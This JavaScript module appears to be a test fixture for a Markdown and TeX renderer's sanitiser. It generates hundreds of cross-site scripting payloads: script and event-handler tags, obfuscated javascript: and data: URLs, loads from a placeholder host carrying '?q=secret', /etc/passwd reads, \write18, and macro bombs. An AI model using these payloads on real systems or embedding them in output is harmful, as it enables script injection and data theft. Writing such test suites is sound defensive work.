// What a hostile model may write: scripts, handlers, addresses and their disguises, in every place that Markdown has.

/** Where an attack's request would go, and what a script of it would call. */
export const CANARY = 'canary.invalid';
const CALL = 'globalThis.struck()';

const TAGS = [
  `<script>${CALL}</script>`, `<script src=//${CANARY}/a.js></script>`, `<img src=//${CANARY}/a onerror=${CALL}>`,
  `<img src=x onerror=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x>`, `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<iframe src=javascript:${CALL}></iframe>`, `<iframe srcdoc="<script>parent.struck()</script>"></iframe>`,
  `<object data=//${CANARY}/a></object>`, `<embed src=//${CANARY}/a>`, `<video src=//${CANARY}/a onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`, `<link rel=stylesheet href=//${CANARY}/a>`, `<link rel=dns-prefetch href=//${CANARY}>`,
  `<style>@import '//${CANARY}/a'</style>`, `<base href=//${CANARY}/>`, `<meta http-equiv=refresh content="0;url=//${CANARY}">`,
  `<form action=//${CANARY}><input autofocus onfocus=${CALL}></form>`, `<details open ontoggle=${CALL}>`,
  `<body onload=${CALL}>`, `<input onfocus=${CALL} autofocus>`, `<a href=javascript:${CALL}>x</a>`, `<marquee onstart=${CALL}>`,
  `<template><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<x contenteditable onblur=${CALL}>x</x>`, `<div style="background:url(//${CANARY}/a)">x</div>`,
  `<!--><img src=x onerror=${CALL}>-->`, `<![CDATA[><img src=x onerror=${CALL}>]]>`, `<?xml ?><img src=x onerror=${CALL}>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `</p></div></article><script>${CALL}</script>`, `<IMG SRC=x OnErRoR=${CALL}>`,
  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `<img src=x onerror\n=${CALL}>`,
  `<moebius-chat src=//${CANARY}/></moebius-chat>`,
]; // prettier-ignore

const URLS = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`, `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`, `javascript%3A${CALL}`, `\\javascript:${CALL}`, `vbscript:x`, `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${CALL}>`, `blob:null/x`,
  `file:///etc/passwd`, `filesystem:x`, `about:blank`, `view-source:x`, `chrome://settings`, `mailto:x@${CANARY}`, `tel:1`,
  `ftp://${CANARY}/`, `ws://${CANARY}/`, `//${CANARY}/a`, `/a?b`, `a.png`, `?q=secret`, `#top`, `https://user:pass@${CANARY}/`,
  `https://bank.example@${CANARY}/`, `https://${CANARY}/?q=secret`, `http://${CANARY}/"onmouseover="${CALL}`,
  `https://${CANARY}/'><img src=x onerror=${CALL}>`, `https:/\\${CANARY}/`, `https://раураl.example/`, `https://\u202e${CANARY}/`,
  `https://xn--80ak6aa92e.example/`, `https://[::1]/`, `https://${CANARY}:99999/`, `https:`, `javascript:/*http://${CANARY}/*/${CALL}`,
]; // prettier-ignore

/** Markdown that an address may stand in. @type {((url: string) => string)[]} */
const PLACES = [
  (url) => `[click](${url})`, (url) => `[click](<${url}>)`, (url) => `[click](${url} "a title")`, (url) => `![alt](${url})`,
  (url) => `[![alt](${url})](${url})`, (url) => `<${url}>`, (url) => `[click][r]\n\n[r]: ${url}`, (url) => `![alt][r]\n\n[r]: ${url}`,
  (url) => `**[bold](${url})** and ${url} bare`, (url) => `[https://bank.example](${url})`,
]; // prettier-ignore

/** Places that a tag may stand in. @type {((text: string) => string)[]} */
const AROUND = [
  (text) => text, (text) => `- ${text}\n- b`, (text) => `> ${text}`, (text) => `| a | ${text.replaceAll('\n', ' ')} |\n|---|---|\n| ${text.replaceAll('\n', ' ')} | b |`,
  (text) => `# ${text}`, (text) => `\`\`\`html\n${text}\n\`\`\``, (text) => `**${text}** *${text}*`, (text) => `\`\`\`${text}\nx\n\`\`\``,
  (text) => `[${text}](https://${CANARY}/)`, (text) => `![${text}](https://${CANARY}/)`,
]; // prettier-ignore

/** What formulas were made to do elsewhere: addresses, pictures, attributes, macros without end, tags as text. @type {string[]} */
const TEX = [
  ...[`javascript:${CALL}`, `JAVASCRIPT:${CALL}`, `https://${CANARY}/`, `data:text/html,<script>${CALL}</script>`].flatMap((url) => [
    String.raw`\href{${url}}{x}`, String.raw`\url{${url}}`, String.raw`\includegraphics[height=1em]{${url}}`, String.raw`\style{background:url(${url})}{x}`,
  ]),
  String.raw`\htmlData{onclick=${CALL}}{x}`, String.raw`\htmlData{a><img/onerror="${CALL}"src=x>=b}{x}`, String.raw`\htmlId{x" onclick="${CALL}}{y}`,
  String.raw`\htmlClass{x}{y}`, String.raw`\htmlStyle{background:url(//${CANARY})}{x}`, String.raw`\class{a b}{x}`, String.raw`\id{a}{x}`, String.raw`\data{onclick=${CALL}}{x}`,
  String.raw`\color{red;background:url(//${CANARY})}x`, String.raw`\colorbox{url(//${CANARY})}{x}`, String.raw`\textcolor{expression(${CALL})}{x}`,
  String.raw`\def\a{\a\a}\a`, String.raw`\edef\a{x}\edef\a{\a\a\a}\a`, String.raw`\gdef\__proto__{x}`, String.raw`\newcommand\constructor{x}\constructor`, String.raw`\global\let\toString\relax`,
  String.raw`\rule{9999em}{9999em}`, String.raw`\kern99999em x`, String.raw`\raisebox{999em}{x}`, '{'.repeat(500) + '}'.repeat(500), String.raw`\frac`.repeat(200), '^'.repeat(50), String.raw`\left(`.repeat(100),
  String.raw`\input{/etc/passwd}`, String.raw`\write18{x}`, String.raw`\unicode{x3C}`, String.raw`\char"3C`, String.raw`\verb|<img src=x onerror=${CALL}>|`,
  ...TAGS.slice(0, 12).map((tag) => String.raw`\text{${tag}}`), ...TAGS.slice(0, 12),
]; // prettier-ignore

/** @type {((tex: string) => string)[]} */
const MARKS = [(tex) => `$${tex}$`, (tex) => `a\n$$\n${tex}\n$$\nb`, (tex) => `\\(${tex}\\)`, (tex) => `- \\[${tex}\\]`];

/** Characters that hide, turn or split text. */
const ODD = ['\u202e', '\u2066', '\u200b', '\u200d', '\ufeff', '\u00ad', '\u{e0041}\u{e0042}', '\u0000', '\u2028', '\ud800', '\uff1c', '\u0301'.repeat(40)];

/** @returns {string[]} */
export function payloads() {
  const tags = TAGS.flatMap((tag) => AROUND.map((around) => around(tag)));
  const urls = URLS.flatMap((url) => PLACES.map((place) => place(url)));
  const odd = ODD.flatMap((c) => [`${c}<img src=x onerror=${CALL}>`, `<im${c}g src=x onerror=${CALL}>`, `[a${c}](java${c}script:${CALL})`, `[a](https://${CANARY}/${c})`, `https://${CANARY}${c}/x`]);
  const formulas = TEX.flatMap((tex) => MARKS.map((mark) => mark(tex)));
  const code = ['js', 'html', 'svg', 'md', 'php'].flatMap((name) => TAGS.map((tag) => `\`\`\`${name}\n${tag}\n${CALL}\n\`\`\`\n`));
  return [...tags, ...urls, ...odd, ...formulas, ...code];
}
